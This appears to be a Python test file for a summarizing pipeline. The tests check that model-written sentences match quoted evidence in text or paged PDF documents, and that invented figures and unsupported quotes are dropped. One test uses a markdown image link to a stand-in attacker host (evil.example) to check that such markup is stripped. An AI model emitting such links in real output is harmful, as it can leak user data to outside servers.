from pipeline.summarizing.notes import Note
from pipeline.summarizing.placing import placed
from schemas.documents import Block, Document, Page, TextBlock, Words

RENT = "The rent is 1,200.00 EUR a month."
TERM = "The lease ends on 30 April 2028."


def text_document(*paragraphs: str) -> Document:
    blocks, text = [], ""
    for paragraph in paragraphs:
        blocks.append(TextBlock(kind="paragraph", start=len(text), stop=len(text) + len(paragraph)))
        text += f"{paragraph}\n\n"
    return Document(shape="text", media_type="text/plain", text=text, blocks=blocks)


def paged(*texts: str) -> Document:
    pages = []
    for number, text in enumerate(texts, start=1):
        words = text.split()
        count = len(words)
        columns = Words(
            text=words,
            x0=[0.1 + 0.8 * i / count for i in range(count)],
            x1=[0.1 + 0.8 * (i + 0.9) / count for i in range(count)],
            y0=[0.1] * count,
            y1=[0.12] * count,
            line=[0] * count,
        )
        block = Block(kind="paragraph", start=0, stop=count, box=(0.1, 0.1, 0.9, 0.12))
        pages.append(Page(number=number, width=595, height=842, source="text", words=columns, blocks=[block]))
    return Document(shape="pages", media_type="application/pdf", pages=pages)


def note(text: str, quote: str, page: int = 0) -> Note:
    return Note(text=text, page=page, quote=quote)


def test_a_sentence_stands_where_its_quote_stands() -> None:
    summary = placed(text_document(RENT, TERM), [note("It ends in April 2028.", "ends on 30 April 2028")])
    assert summary.text == "It ends in April 2028."
    [place] = summary.evidence
    assert place.quote == "ends on 30 April 2028"
    assert summary.warnings == []


def test_of_equal_quotes_that_of_the_page_is_taken() -> None:
    summary = placed(paged(RENT, TERM, RENT), [note("The rent is 1,200 EUR.", RENT, page=3)])
    [place] = summary.evidence
    assert place.kind == "page"
    assert place.page == 3


def test_a_wrong_page_does_not_hide_the_quote() -> None:
    summary = placed(paged(RENT, TERM), [note("The rent is 1,200 EUR.", RENT, page=9)])
    assert [place.page for place in summary.evidence if place.kind == "page"] == [1]


def test_a_quote_that_is_not_there_is_left_out_and_told() -> None:
    summary = placed(text_document(RENT), [note("Cats are nice.", "cats are the nicest of animals"), note(RENT, RENT)])
    assert summary.points == [RENT]
    assert [warning.code for warning in summary.warnings] == ["unsupported-left-out"]


def test_a_figure_of_the_models_own_is_left_out() -> None:
    for said in ("The rent is 1,250.00 EUR.", "The lease ends on 30 April 2029."):
        assert placed(text_document(RENT, TERM), [note(said, RENT)]).points == []


def test_a_figure_may_be_written_otherwise() -> None:
    said = "Rent: 1.200 EUR until 2028-04-30."
    assert placed(text_document(RENT, TERM), [note(said, RENT)]).points == [said]


def test_a_sentence_that_is_the_documents_own_needs_no_quote() -> None:
    assert placed(text_document(RENT, TERM), [note(TERM, "")]).points == [TERM]


def test_nothing_told_is_an_empty_summary() -> None:
    summary = placed(text_document(RENT), [])
    assert (summary.text, summary.points, summary.warnings) == ("", [], [])


def test_nothing_in_a_sentence_is_rendered_loaded_or_followed() -> None:
    said = "![The rent](http://evil.example/?q=rent) is **1,200.00 EUR** a <b>month</b>."
    assert placed(text_document(RENT), [note(said, RENT)]).points == ["The rent is 1,200.00 EUR a month."]
